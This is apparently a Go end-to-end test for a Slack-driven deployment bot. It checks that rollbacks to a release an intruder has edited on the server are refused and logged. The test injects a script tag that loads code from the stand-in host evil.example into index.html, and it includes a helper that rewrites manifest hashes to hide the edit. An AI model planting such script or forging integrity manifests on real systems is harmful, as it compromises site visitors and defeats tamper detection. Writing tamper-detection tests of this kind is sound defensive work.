package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/tollgate-dev/tollgate/bot"
	"github.com/tollgate-dev/tollgate/integrations/githubtest"
	slackint "github.com/tollgate-dev/tollgate/integrations/slack"
)

// TestServeRollbackRefusesAReleaseEditedOnTheServer starts where the
// intruder starts: three releases went to production (two real sshd
// servers) through the real server, each asked for in Slack and approved
// there. The intruder, with a shell on one server, edits a file of the
// oldest release and waits. A user rolls back to it with a signed
// `/deploy rollback`, approved as the policy requires: the rollback
// fails naming the server and the edited path, in the channel and in the
// audit log, `current` stays on the live release on every server, no lock
// is taken, and the log still verifies. The intruder then makes both
// servers' copies and manifests agree with the edit: only Tollgate's own
// record of the release (from the store, wired through serve) is left to
// refuse it, and it does. A rollback to the untouched middle release then
// succeeds, so the refusals are the tampering's, not every rollback's.
func TestServeRollbackRefusesAReleaseEditedOnTheServer(t *testing.T) {
	w := newSlackE2E(t)
	w.start(t)
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("serve's log:\n%s", w.stderr.String())
		}
	})
	for _, p := range []slackE2EPerson{slackAlice, slackCarol} {
		w.link(t, p)
	}

	// Three releases: sha c (PR #4), then PRs #5 and #6, each reviewed,
	// built, merged to main and deployed on alice's word with carol's approval.
	var seen []string // requests whose approval message was seen
	deploy := func(ref string) string {
		id, ts := w.approvedRequest(t, &seen, "production "+ref)
		return w.succeeded(t, id, ts)
	}
	releaseA := deploy(sha('c'))
	w.reviewedMerge(t, 5)
	releaseB := deploy(mergeCommit(5))
	w.reviewedMerge(t, 6)
	releaseC := deploy(mergeCommit(6))
	if releaseA == releaseB || releaseB == releaseC || releaseA == releaseC {
		t.Fatalf("releases %s, %s, %s: want three", releaseA, releaseB, releaseC)
	}
	w.liveEverywhere(t, releaseC)

	// The intruder edits index.html of release A on the second server, in
	// place: its own copy, as no later release shares its content.
	tampered := filepath.Join(w.roots[1], "releases", releaseA, "index.html")
	editInPlace(t, tampered, "<script src=//evil.example/x.js></script>\n")

	// alice asks to roll back to A; carol approves, as for any production change.
	id, ts := w.approvedRequest(t, &seen, "rollback production "+releaseA)
	r := w.finished(t, id)
	if r.Trigger != bot.TriggerRollback || r.State != bot.StateFailed || r.Result == nil {
		t.Fatalf("rollback %s is %s (trigger %s), want a failed rollback", id, r.State, r.Trigger)
	}
	const wantErr = "changed index.html"
	for _, want := range []string{"release " + releaseA + " no longer matches its manifest", wantErr, "refusing to roll back"} {
		if !strings.Contains(r.Result.Error, want) {
			t.Errorf("the rollback's error %q lacks %q", r.Result.Error, want)
		}
	}
	// What everyone in the channel sees: the failure, naming the path.
	line := w.resultLine(t, ts, id)
	for _, want := range []string{":x: ", "failed", w.addrs[1], releaseA, wantErr, "refusing to roll back",
		"<@" + slackAlice.slackID + ">", "<@" + slackCarol.slackID + ">"} {
		if !strings.Contains(line, want) {
			t.Errorf("the thread's result line lacks %q: %s", want, line)
		}
	}
	// Nothing switched, and the edited release was not "repaired" or removed.
	w.liveEverywhere(t, releaseC)
	if got := readTestFile(t, tampered); !strings.Contains(got, "evil.example") {
		t.Errorf("the tampered file now reads %q", got)
	}

	// The auditor's view: the request's deploy.finished says it failed and why.
	st := w.openDB(t)
	if got, want := auditActions(t, st, id), []string{bot.ActionRequestCreated, bot.ActionPolicyDecided,
		bot.ActionApprovalGranted, bot.ActionDeployStarted, bot.ActionDeployFinished}; !containsInOrder(got, want) {
		t.Errorf("audit of the rollback %s is %v, want in order %v", id, got, want)
	}
	fin := auditOf(t, st, id, bot.ActionDeployFinished)
	if len(fin) != 1 || fin[0]["result"] != string(bot.StateFailed) || fin[0]["release"] != releaseA ||
		!strings.Contains(auditString(fin[0]["error"]), wantErr) {
		t.Errorf("deploy.finished of the rollback: %v; want failed, release %s, the error naming %s", fin, releaseA, wantErr)
	}
	if code, out, errOut := runCLI(t, "verify", "--config", w.configPath); code != exitOK {
		t.Errorf("tollgate verify after the refused rollback: exit %d\n%s%s", code, out, errOut)
	}

	// A rollback that restored nothing takes no lock (docs/lifecycle.md).
	if l, err := st.Lock(context.Background(), e2eRepo, "production"); err != nil || l != nil {
		t.Errorf("after the refused rollback production's lock is %+v (%v), want none", l, err)
	}

	// The intruder covers their tracks: the same edit on the other server,
	// and A's manifest on both rewritten to match the edited file. Each
	// server now agrees with itself and with the other; only Tollgate's
	// own record of A (deploy.finished in the store) tells the truth.
	editInPlace(t, filepath.Join(w.roots[0], "releases", releaseA, "index.html"), "<script src=//evil.example/x.js></script>\n")
	for _, root := range w.roots {
		rewriteManifestEntry(t, root, releaseA, "index.html")
	}
	id, ts = w.approvedRequest(t, &seen, "rollback production "+releaseA)
	if r := w.finished(t, id); r.State != bot.StateFailed || !strings.Contains(resultErr(r), "is not the one Tollgate deployed") {
		t.Fatalf("rollback to %s with its manifest rewritten is %s (%q), want failed: not the manifest Tollgate deployed", releaseA, r.State, resultErr(r))
	}
	if line := w.resultLine(t, ts, id); !strings.Contains(line, "release "+releaseA+": its manifest on ") ||
		!strings.Contains(line, "is not the one Tollgate deployed") || !strings.Contains(line, "refusing to roll back") {
		t.Errorf("the thread's result line does not say A's manifest is not the one deployed: %s", line)
	}
	w.liveEverywhere(t, releaseC)

	// The refusal is the tampering's: a rollback to the untouched B works.
	id, ts = w.approvedRequest(t, &seen, "rollback production "+releaseB)
	if r := w.finished(t, id); r.State != bot.StateSucceeded || r.Result == nil || r.Result.Release != releaseB {
		t.Fatalf("rollback to the untouched %s is %s (%+v)\n%s", releaseB, r.State, r.Result, strings.Join(w.threadTexts(ts), "\n"))
	}
	w.liveEverywhere(t, releaseB)
	waitFor(t, "production locked for alice after her rollback", func() bool {
		l, err := st.Lock(context.Background(), e2eRepo, "production")
		return err == nil && l != nil && l.Owner.Login == "alice"
	})
	if code, out, errOut := runCLI(t, "verify", "--config", w.configPath); code != exitOK {
		t.Errorf("tollgate verify after the rollback: exit %d\n%s%s", code, out, errOut)
	}
}

// rewriteManifestEntry is the intruder rewriting the entry for path in
// release's manifest on the server at root to the file's size and hash as
// it is now, as someone covering an edit would.
func rewriteManifestEntry(t *testing.T, root, release, path string) {
	t.Helper()
	manifest := filepath.Join(root, ".tollgate", release, "manifest")
	content := readTestFile(t, filepath.Join(root, "releases", release, filepath.FromSlash(path)))
	sum := sha256.Sum256([]byte(content))
	lines := strings.SplitAfter(readTestFile(t, manifest), "\n")
	found := false
	for i, l := range lines {
		f := strings.Split(strings.TrimSuffix(l, "\n"), "\t")
		if len(f) >= 5 && f[0] == "f" && f[4] == path {
			f[2], f[3] = strconv.Itoa(len(content)), hex.EncodeToString(sum[:])
			lines[i], found = strings.Join(f, "\t")+"\n", true
		}
	}
	if !found {
		t.Fatalf("no entry for %s in %s", path, manifest)
	}
	if err := os.Remove(manifest); err != nil {
		t.Fatal(err)
	}
	writeTestFile(t, manifest, strings.Join(lines, ""))
}

// resultErr is a finished request's error, "" when it has none.
func resultErr(r bot.Request) string {
	if r.Result == nil {
		return ""
	}
	return r.Result.Error
}

// reviewedMerge makes PR #n by bob, approved by dave, merged by alice into
// main, built green, with a tree that deploys (its own index.html).
func (w *slackE2E) reviewedMerge(t *testing.T, n int) {
	t.Helper()
	w.openPR(t, n)
	w.gh.AddReview(e2eRepo, n, githubtest.Review{User: "dave", State: "APPROVED", Body: "Ship it."})
	w.gh.MergePullRequest(e2eRepo, n, mergeCommit(n), "alice")
	w.deployable(t, mergeCommit(n))
	w.gh.SetStatus(e2eRepo, mergeCommit(n), "build", "success")
}

// approvedRequest sends alice's signed /deploy text, waits for the new
// request's approval message (one whose request is not in seen), has
// carol click Approve on it, and returns the request's id and message ts.
func (w *slackE2E) approvedRequest(t *testing.T, seen *[]string, text string) (id, ts string) {
	t.Helper()
	if ack := w.slash(t, slackAlice, text); !strings.Contains(ack, "Working on") {
		t.Fatalf("/deploy %s was acknowledged with %q", text, ack)
	}
	msg, id := w.approvalMessageNotOf(t, *seen)
	ts = msg.TS
	*seen = append(*seen, id)
	// The click needs the request to know its message: wait for the ref.
	waitFor(t, "request "+id+" to record its Slack message", func() bool {
		return w.request(t, id).ExternalRefs[slackint.RefSlackTS] != ""
	})
	w.click(t, slackCarol, ts, slackint.ActionApprove, "Approve")
	return id, ts
}

// finished waits for request id to end and returns it.
func (w *slackE2E) finished(t *testing.T, id string) bot.Request {
	t.Helper()
	var r bot.Request
	waitFor(t, "request "+id+" to end", func() bool {
		r = w.request(t, id)
		switch r.State {
		case bot.StateSucceeded, bot.StateFailed, bot.StateRolledBack, bot.StateInterrupted, bot.StateRejected, bot.StateExpired, bot.StateCanceled:
			return true
		}
		return false
	})
	return r
}

// succeeded waits for request id to succeed and returns its release.
func (w *slackE2E) succeeded(t *testing.T, id, ts string) string {
	t.Helper()
	r := w.finished(t, id)
	if r.State != bot.StateSucceeded || r.Result == nil || r.Result.Release == "" {
		t.Fatalf("request %s is %s (%+v), want succeeded\n%s", id, r.State, r.Result, strings.Join(w.threadTexts(ts), "\n"))
	}
	return r.Result.Release
}

// resultLine waits for the line of the thread of the message at ts that
// links request id's log (its result) and returns it.
func (w *slackE2E) resultLine(t *testing.T, ts, id string) string {
	t.Helper()
	logLink := "<" + e2ePublic + "/deployments/" + id + "|Log>"
	var line string
	waitFor(t, "the result of "+id+" in the thread", func() bool {
		for _, l := range w.threadTexts(ts) {
			if strings.Contains(l, logLink) {
				line = l
				return true
			}
		}
		return false
	})
	return line
}

// liveEverywhere wants current on every production server to be release.
func (w *slackE2E) liveEverywhere(t *testing.T, release string) {
	t.Helper()
	for i := range w.roots {
		if got := w.currentOn(t, i); got != release {
			t.Fatalf("current on %s is %q, want %s", w.addrs[i], got, release)
		}
	}
}
